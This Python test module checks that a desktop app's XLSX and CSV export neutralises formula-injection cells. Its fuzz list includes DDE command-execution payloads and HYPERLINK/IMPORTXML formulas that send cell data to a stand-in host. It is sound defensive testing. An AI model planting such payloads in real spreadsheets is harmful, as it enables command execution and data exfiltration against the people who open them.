"""Cells that a spreadsheet would reckon: none of them is a formula in what is written, and no export fails (N2)."""

from __future__ import annotations

import csv
import random

import openpyxl

from desktop import workbook
from desktop.workbook import Sheet, write, write_csv
from tests.faults.part import Figures, Run

_BEGINNINGS = (
    "=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "\u3000=", "\n=", "'=", '"=', "%0A=", ";=",
    ",=",
)  # fmt: skip
_ENDS = (
    "1+1", "cmd|'/c calc'!A0", 'HYPERLINK("http://x/"&A1,"点这里")', "SUM(A1:A9)", 'DDE("a";"b";"c")',
    "2+5+cmd|' /C x'!A0", 'IMPORTXML(CONCAT("http://x/",A1),"//a")', "@SUM(1)", "现场", "http://example.invalid/",
    "00123", "1e5", "\x00\x0b\x1b", "\ufffe", "x" * 400, "",
)  # fmt: skip
_ROW = 20


def _cell(dice: random.Random) -> str:
    return (
        dice.choice(_BEGINNINGS) * dice.randrange(1, 3) + dice.choice(_ENDS) + dice.choice(("", "\n=1", "\t"))
    )


def hostile_cells(run: Run) -> Figures:
    """Written as XLSX and as CSV, opened again."""
    figures = Figures(wrong={"formulas": 0, "failed exports": 0, "reckoned in CSV": 0})
    rows = [[_cell(run.dice) for _ in range(_ROW)] for _ in range(max(1, run.rounds // _ROW))]
    figures.rounds = sum(map(len, rows))
    figures.injected["hostile cells"] = figures.rounds
    table, text = run.folder / "x.xlsx", run.folder / "x.csv"
    write(table, [Sheet("表", rows, head=False)])
    write_csv(text, rows)
    try:
        book = openpyxl.load_workbook(table)
    except Exception:  # noqa: BLE001 - whatever it is, nobody can open what was exported
        figures.wrong["failed exports"] += 1
        return figures
    for cells in book["表"].iter_rows():
        for cell in cells:
            figures.wrong["formulas"] += cell.data_type == "f" or cell.hyperlink is not None
    book.close()
    with text.open(encoding="utf-8-sig", newline="") as source:
        for cells in csv.reader(source):
            for cell in cells:
                bare = cell.lstrip(" \u3000\n")
                figures.wrong["reckoned in CSV"] += bare[:1] in tuple("=+-@\t\r＝＋－＠") and bool(bare)
    return figures


def armed(run: Run) -> Figures:
    """Cells of a CSV file are written as they come."""
    before = workbook._disarmed
    workbook._disarmed = lambda text: text
    try:
        return hostile_cells(run)
    finally:
        workbook._disarmed = before
